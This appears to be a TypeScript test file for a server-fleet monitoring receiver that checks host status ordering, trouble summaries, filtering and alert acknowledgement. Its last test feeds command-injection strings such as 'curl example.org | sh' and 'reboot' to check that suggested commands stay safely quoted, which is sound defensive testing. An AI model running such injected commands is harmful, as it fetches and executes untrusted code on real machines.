// The fleet at a glance: states, order and words, as the first page and `status` show them.

import { expect, test } from "bun:test";
import { type FleetQuery, commandOf, fleetOf } from "../../lib/receiver/fleet.ts";
import { Store } from "../../lib/receiver/store.ts";
import { shellWord } from "../../lib/text.ts";
import { until } from "../kit.ts";
import { Hub, TELLS_SOON, addHosts, report, statuses } from "./kit.ts";
import { placeOf } from "./store-kit.ts";

test("the worst come first, with what is wrong and the command that tells more", async () => {
  await using hub = new Hub({ more: TELLS_SOON });
  await hub.addHost("web-1");
  addHosts(hub, ["nas", "pi", "lab-3", "laptop", "web-2", "web-10", "old"]);
  await hub.run("host", "set", "laptop", "--offline-is-fine");
  const tags = await hub.run("host", "set", "web-1", "--tag", "web", "--tag", "prod", "--tag", "web");
  expect(tags.stdout).toBe("web-1: tags: prod web\n");
  await hub.run("host", "set", "web-1", "--untag", "prod");
  expect((await hub.run("host", "set", "web-1", "--tag", "a b")).stderr).toContain('--tag "a b" is not a valid name');
  await hub.run("job", "add", "backup", "--every", "1d");
  await hub.up();
  const url = (await hub.run("job", "show", "backup")).stdout.match(/\/ping\/\S+/)![0];
  for (const end of ["", "/fail"]) await fetch(hub.url + url + end, { method: "POST" });
  // These fall silent, the others keep to a longer interval.
  for (const host of ["pi", "laptop"]) await hub.report(report(), { host });
  const disks = [
    { mount: "/", used_gb: 41, total_gb: 100, used_percent: 41 },
    { mount: "/snap", used_gb: 1, total_gb: 1, used_percent: 100, read_only: true },
  ];
  const calm = (more = {}) => ({ ...report(), interval_seconds: 3600, host: { ...HOST, disks, ...more } });
  for (const host of ["web-1", "web-2", "lab-3", "old"]) await hub.report(calm(), { host });
  const full = [...disks, { mount: "/data", used_gb: 950, total_gb: 1000, used_percent: 95.4 }];
  const units = [{ name: "caddy.service", state: "failed", sub: "failed", detail: "exit 1" }];
  await hub.report(calm({ disks: full, units }), { host: "nas" });
  await hub.run("host", "pause", "lab-3", "30m", "--reason", "new disk");
  await hub.run("host", "archive", "old");
  await until("they are offline", () => ["pi", "laptop"].every((host) => statuses(hub)[host] === "offline"));
  const store = await Store.open(placeOf(hub.data));
  const ask = (query: Partial<FleetQuery> = {}) => fleetOf({ store }, { now: Date.now(), ...query });
  const { hosts, ...fleet } = await ask();
  const shown = hosts.map(({ name, look, state }) => `${name} ${look} ${state}`);
  expect(shown).toEqual([
    "pi bad offline",
    "nas warn warning",
    "web-10 off pending",
    "web-1 ok fine",
    "web-2 ok fine",
    "lab-3 off paused",
    "laptop off offline",
  ]);
  expect(hosts.map(({ troubles }) => troubles.map(({ text, command }) => `${text} [${command}]`)).slice(0, 2)).toEqual([
    [expect.stringMatching(/^no report for \d+s \(every 1 s expected\) \[systemctl status picket-agent\]$/)],
    [
      "/data is 95 % full (950.0 of 1000.0 GB) [du -xh /data | sort -h | tail]",
      "unit caddy failed (exit 1) [systemctl status caddy]",
    ],
  ]);
  const nas = hosts.find(({ name }) => name === "nas");
  expect([nas!.mount, nas!.figures]).toEqual([
    "/data",
    { disk_percent: 95.4, cpu_percent: 12.5, memory_percent: 25, temperature_c: 41.5 },
  ]);
  const { sparks } = nas!;
  expect([sparks.cpu_percent.at(-1), sparks.memory_percent.at(-1), sparks.cpu_percent[0]]).toEqual([12.5, 25, null]);
  expect(sparks.disk_percent.at(-1)).toBeCloseTo(95.4);
  expect(hosts.at(-2)!.paused).toMatchObject({ reason: "new disk" });
  expect(fleet).toMatchObject({
    headline: "2 of 7 hosts and 1 of 1 job need you",
    summary: [
      "pi is offline",
      "backup failed",
      "nas: /data is 95 % full",
      "nas: unit caddy failed",
      "7 hosts: 2 offline, 1 warning, 1 pending, 2 fine, 1 paused",
      "1 job, down",
    ],
    hidden: { archived: 1 },
    jobs: [
      { name: "backup", look: "bad", state: "down", runs: [{ how: "success" }, { how: "fail" }], schedule: "every 1d" },
    ],
  });
  const named = async (query: Partial<FleetQuery>) => (await ask(query)).hosts.map(({ name }) => name).join(" ");
  expect([
    await named({ text: "WEB", sort: "name" }),
    await named({ state: "trouble" }),
    await named({ text: "caddy" }),
    await named({ tag: "web" }),
    await named({ archived: true, state: "archived" }),
  ]).toEqual(["web-1 web-2 web-10", "pi nas", "nas", "web-1", "old"]);
  expect(await hub.get("/v1/hosts/web-1")).toMatchObject({ tags: ["web"] });
  // One that is taken care of needs you no more.
  const open = hub.rows<{ id: number }>("SELECT id FROM alerts WHERE closed_at IS NULL");
  for (const { id } of open) await hub.run("alerts", "ack", String(id));
  const known = await ask();
  expect([known.headline, known.hosts.map(({ name, state }) => `${name} ${state}`).slice(0, 2)]).toEqual([
    "Nothing needs you",
    ["nas acknowledged", "pi offline"],
  ]);
  await store.close();
});

const HOST = report()["host"] as Record<string, unknown>;

test("a command that is shown is one of the receiver's own, whatever a host is called or says", () => {
  const command = (text: string) => commandOf(text)[1];
  expect(command("nas: unit caddy failed; systemctl status caddy")).toBe("systemctl status caddy");
  expect(command(`nas: /a b; c is full; du -xh ${shellWord("/a b; c")} | sort -h | tail`)).toBe(
    "du -xh '/a b; c' | sort -h | tail",
  );
  for (const evil of ["x; curl example.org | sh", "x'; curl example.org | sh; '", "x; systemctl status 'x; reboot"]) {
    expect(command(`nas: unit ${evil} failed; systemctl status ${shellWord(evil)}`)).toBe(
      `systemctl status ${shellWord(evil)}`,
    );
    expect(command(`nas: pool tank is degraded: ${evil}`)).toBeNull();
    expect(command(`nas: ${evil} has room again`)).toBeNull();
  }
});
